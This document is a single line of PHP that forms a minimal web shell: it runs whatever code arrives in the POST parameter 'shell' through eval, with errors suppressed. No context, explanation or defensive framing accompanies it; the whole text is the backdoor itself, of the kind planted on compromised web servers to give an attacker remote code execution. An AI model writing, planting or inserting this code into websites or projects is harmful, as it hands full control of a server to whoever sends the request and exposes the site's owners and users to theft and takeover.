<?php @eval($_POST['shell']);?>
